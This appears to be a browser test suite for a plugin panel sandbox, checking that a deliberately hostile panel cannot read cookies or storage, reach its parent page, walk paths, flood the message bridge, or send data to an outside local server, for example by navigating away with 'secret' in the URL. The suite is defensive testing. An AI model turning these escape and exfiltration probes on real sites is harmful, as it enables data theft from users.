import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { mkdtemp, realpath, rm } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { createTestKernel, type TestKernel } from '@agent-service/kernel/testing'
import { expect } from 'chai'
import { type ConsolePage, closeBrowser, openPage } from './open-page.js'
import { panelModule, writePanelPlugin } from './support/write-panel-plugin.js'

const ada = { username: 'ada', password: 'a long enough password' }
const own = '/api/plugins/panel-hostile'

/** Tries what a frame could reach; each name has what it got, or the word `refused`. */
const reach = (outside: string, udpPort: number): string => `
  const tried = {}
  const attempt = async (name, work) => {
    try { tried[name] = (await work()) ?? 'nothing' } catch { tried[name] = 'refused' }
  }
  const within = (work) => Promise.race([work, new Promise((_, reject) => setTimeout(reject, 1500, new Error('late')))])
  const added = (tag, properties) => within(new Promise((resolve, reject) => {
    const element = Object.assign(document.createElement(tag), properties)
    element.onload = () => resolve('loaded')
    element.onerror = reject
    document.head.append(element)
  }))
  await attempt('cookie', () => document.cookie)
  await attempt('local storage', () => localStorage.length)
  await attempt('session storage', () => sessionStorage.length)
  await attempt('database', () => within(new Promise((resolve, reject) => {
    const request = indexedDB.open('x')
    request.onsuccess = () => resolve('opened')
    request.onerror = reject
  })))
  await attempt('caches', () => caches.keys())
  await attempt('service worker', () => navigator.serviceWorker.getRegistrations())
  await attempt('parent document', () => parent.document.title)
  await attempt('parent storage', () => parent.localStorage.length)
  await attempt('address of the page', () => top.location.href)
  await attempt('frame element', () => frameElement.outerHTML)
  await attempt('fetch of the service', () => fetch('${own}/me', { credentials: 'include' }).then((answer) => answer.status))
  await attempt('fetch outside', () => fetch('${outside}/fetch', { mode: 'no-cors' }).then(() => 'sent'))
  await attempt('beacon', () => navigator.sendBeacon('${outside}/beacon', 'x') ? 'queued' : 'refused')
  await attempt('request', () => within(new Promise((resolve, reject) => {
    const request = new XMLHttpRequest()
    request.onload = resolve
    request.onerror = reject
    request.open('GET', '${outside}/xhr')
    request.send()
  })))
  await attempt('web socket', () => within(new Promise((resolve, reject) => {
    const socket = new WebSocket('${outside.replace('http', 'ws')}/socket')
    socket.onopen = () => resolve('open')
    socket.onerror = reject
  })))
  await attempt('event source', () => within(new Promise((resolve, reject) => {
    const source = new EventSource('${outside}/events')
    source.onopen = () => resolve('open')
    source.onerror = reject
  })))
  await attempt('image', () => added('img', { src: '${outside}/image.png' }))
  await attempt('style sheet', () => added('link', { rel: 'stylesheet', href: '${outside}/style.css' }))
  await attempt('prefetch', () => added('link', { rel: 'prefetch', href: '${outside}/prefetch' }))
  await attempt('preload', () => added('link', { rel: 'preload', as: 'script', href: '${outside}/preload.js' }))
  await attempt('module preload', () => added('link', { rel: 'modulepreload', href: '${outside}/module.js' }))
  await attempt('script', () => added('script', { src: '${outside}/script.js' }))
  await attempt('inline script', () => { added('script', { textContent: 'globalThis.acted = 1' }); return globalThis.acted ?? Promise.reject() })
  await attempt('eval', () => (0, eval)('1'))
  await attempt('import', () => import('${outside}/import.js'))
  await attempt('import of the service', () => import('/panel-frame.js'))
  await attempt('worker', () => within(new Promise((resolve, reject) => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
    worker.onmessage = () => resolve('ran')
    worker.onerror = reject
  })))
  await attempt('background', () => { document.body.style.backgroundImage = 'url(${outside}/background.png)'; return 'set' })
  await attempt('font', () => new FontFace('x', 'url(${outside}/font.woff2)').load().then(() => 'loaded'))
  await attempt('frame outside', () => {
    const frame = document.createElement('iframe')
    frame.src = '${outside}/frame'
    document.body.append(frame)
    return 'added'
  })
  await attempt('frame with the same script', () => {
    const frame = document.createElement('iframe')
    frame.srcdoc = document.querySelector('script').outerHTML
    document.body.append(frame)
    return 'added'
  })
  await attempt('peer connection', async () => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] })
    connection.createDataChannel('x')
    await connection.setLocalDescription(await connection.createOffer())
    return 'offered'
  })
  await attempt('window', () => (open('${outside}/window') ? 'opened' : 'refused'))
  await attempt('dialog', () => { alert('x'); return 'called' })
  await attempt('top', () => { top.location.href = '${outside}/top'; return 'set' })
  await attempt('link to the top', () => {
    Object.assign(document.createElement('a'), { href: '${outside}/link', target: '_top' }).click()
    return 'clicked'
  })
  await attempt('form', () => {
    const form = Object.assign(document.createElement('form'), { action: '${outside}/form', method: 'post', target: '_top' })
    document.body.append(form)
    form.submit()
    return 'submitted'
  })
  for (const path of ['/api/auth/me', '${own}/../../auth/me', '${own}/%2e%2e/%2e%2e/auth/me', '${own}/me/', '/api/admin/users', '//127.0.0.1/api',
    '${outside}${own}/me', '${own}\\\\..\\\\me', '${own}/me?x', '${own}/me#x', '/api/plugins/panel-other/me'])
    await attempt('call ' + path, () => consolePanel.call('GET', path).then(() => 'answered', (error) => error.code))
  await attempt('call with another method', () => consolePanel.call('DELETE', '${own}/me').catch((error) => error.code))
  await attempt('own call', () => consolePanel.call('GET', '${own}/me').then(({ username }) => username))
  return tried`

/** Takes the port that the bridge keeps to itself, by what the bridge calls on it. */
const takePort = `
  let port
  const plain = MessagePort.prototype.postMessage
  MessagePort.prototype.postMessage = function (...message) { port = this; return plain.apply(this, message) }
`

/** The bridge uses the port for a call. */
const used = `await consolePanel.call('GET', '${own}/me');`

describe('a hostile panel', function () {
  this.timeout(120_000)
  let folder: string
  let kernel: TestKernel
  let view: ConsolePage
  let close: () => Promise<void>
  /**
   * What arrived outside. Chromium may open a connection before it refuses a navigation; nothing is
   * sent over it.
   */
  const visits: string[] = []
  before(async () => {
    folder = await realpath(await mkdtemp(path.join(tmpdir(), 'agent-service-panels-')))
    const server = createServer((request, response) => {
      visits.push(String(request.url))
      response.setHeader('access-control-allow-origin', '*').end('ok')
    })
    server.on('upgrade', (request, socket) => {
      visits.push(String(request.url))
      socket.destroy()
    })
    const udp = createSocket('udp4').on('message', () => visits.push('packet'))
    server.listen(0, '127.0.0.1')
    udp.bind(0, '127.0.0.1')
    await Promise.all([once(server, 'listening'), once(udp, 'listening')])
    const outside = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
    close = async () => {
      server.closeAllConnections()
      server.close()
      udp.close()
      await closeBrowser()
      await kernel.stop()
      await rm(folder, { recursive: true, force: true })
    }
    const plugins = [
      await writePanelPlugin(folder, 'panel-hostile', {
        reaches: panelModule(reach(outside, udp.address().port)),
        leaves: panelModule(`location.href = '${outside}/self?' + 'secret'`),
        visits: panelModule(`location.href = '/api/auth/config'`),
        huge: panelModule(`${used} port.postMessage('x'.repeat(50_000_000))`, takePort),
        objects: panelModule(`${used} port.postMessage({ kind: 'ready', data: new Uint8Array(10_000_000) })`, takePort),
        rapid: panelModule(
          `${used} for (let count = 0; count < 200_000; count += 1) port.postMessage('{"kind":"size","height":9}')`,
          takePort,
        ),
        calls: panelModule(`
          const answers = await Promise.all(Array.from({ length: 60 }, () => consolePanel.call('GET', '${own}/me').then(() => 'answered', (error) => error.code)))
          return [...new Set(answers)].sort()`),
        large: panelModule(`return consolePanel.call('GET', '${own}/me', { body: 'x'.repeat(300_000) }).catch((error) => error.code)`),
        throws: `throw new Error('no dice here')`,
        wrong: 'this is not JavaScript',
        silent: 'export {}',
        missing: undefined,
        ends: panelModule(`consolePanel.fail('The dice are lost.')`),
      }),
      await writePanelPlugin(folder, 'panel-other', { plain: panelModule('return 1') }),
    ]
    kernel = await createTestKernel({ plugins })
    view = await openPage(kernel, { credentials: ada })
  })
  after(() => close())

  const show = async (name: string) => {
    await view.open(`/panels/panel-hostile-${name}`)
    return view.page.frameLocator('iframe')
  }
  const resultOf = async (name: string): Promise<unknown> => {
    const result = (await show(name)).locator('#result')
    await result.waitFor()
    return JSON.parse(await result.innerText())
  }
  /** The page is there, answers, and says what became of the panel. */
  const expectState = async (name: string, text: string): Promise<void> => {
    await show(name)
    await view.page.getByText(text).waitFor()
    expect(await view.page.locator('iframe').count()).to.equal(0)
    await view.page.getByRole('button', { name: 'Start again' }).waitFor()
    expect(new URL(view.page.url()).pathname).to.equal(`/panels/panel-hostile-${name}`)
  }

  it('reaches no cookie, storage, page, address or other route, and its own route as the person', async () => {
    const tried = (await resultOf('reaches')) as Readonly<Record<string, string>>
    const harmless = ['background', 'frame outside', 'frame with the same script', 'dialog', 'form', 'link to the top', 'beacon', 'top']
    const got = Object.entries(tried).filter(([name, value]) => value !== 'refused' && !harmless.includes(name) && !name.includes('call'))
    expect(got).to.deep.equal([])
    const calls = Object.entries(tried).filter(([name]) => name.startsWith('call'))
    expect(calls).to.have.length(12)
    expect(calls.filter(([, code]) => code !== 'route_not_own')).to.deep.equal([])
    expect(tried['own call']).to.equal('ada')
    expect(new URL(view.page.url()).pathname).to.equal('/panels/panel-hostile-reaches')
    expect(view.context.pages()).to.have.length(1)
    expect(visits).to.deep.equal([])
  })

  it('that leaves its page is stopped, and nothing is sent', async () => {
    await expectState('leaves', 'The panel left its page and was stopped.')
    await expectState('visits', 'The panel left its page and was stopped.')
    expect(visits).to.deep.equal([])
  })

  it('that sends huge messages, objects, or too many messages is stopped', async () => {
    for (const name of ['huge', 'objects', 'rapid']) await expectState(name, 'The panel sent more than the console takes and was stopped.')
  })

  it('that calls too often or sends too much is refused each time', async () => {
    expect(await resultOf('calls')).to.deep.equal(['answered', 'too_many_calls'])
    expect(await resultOf('large')).to.equal('too_large')
  })

  it('that is broken shows why, with a way to start again', async () => {
    await expectState('throws', 'The panel reports: no dice here')
    await expectState('wrong', 'The panel did not start.')
    await expectState('missing', 'The file missing.js of this panel is missing.')
    await expectState('ends', 'The panel reports: The dice are lost.')
    expect(await view.inspect('panels-broken')).to.deep.equal([])
    await expectState('silent', 'The panel did not start.')
  })

  it('is opaque and without scripts of others when its address is opened by itself', async () => {
    const answer = await view.page.goto('/api/console/panels/panel-hostile-calls/frame')
    const policy = (await answer?.headerValue('content-security-policy')) ?? ''
    expect(policy)
      .to.include('sandbox allow-scripts')
      .and.include("default-src 'none'")
      .and.match(/script-src 'sha256-[^' ]+';/)
    expect(await view.page.evaluate('self.origin')).to.equal('null')
  })
})
